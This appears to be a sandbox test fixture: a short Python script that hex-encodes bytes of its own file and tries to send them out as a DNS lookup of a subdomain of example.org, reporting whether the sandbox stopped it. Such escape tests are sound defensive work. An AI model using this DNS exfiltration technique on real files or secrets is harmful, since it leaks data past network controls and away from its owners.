# wants: send data out as names to resolve
# caught by: sandbox
# as: tool
import socket

data = open(__file__, "rb").read(30).hex()
try:
    print("ESCAPED: resolved", socket.gethostbyname(f"{data}.example.org"))
except OSError as error:
    print("refused:", error)
